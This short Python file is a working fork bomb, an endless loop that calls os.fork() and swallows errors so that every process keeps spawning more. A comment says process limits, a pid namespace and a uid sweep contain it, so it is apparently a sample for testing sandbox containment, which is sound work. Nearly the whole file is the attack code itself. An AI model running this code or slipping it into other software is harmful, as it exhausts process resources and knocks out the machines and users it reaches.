# Fork bomb: every process forks forever; RLIMIT_NPROC, the pid namespace and the uid sweep contain it.
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
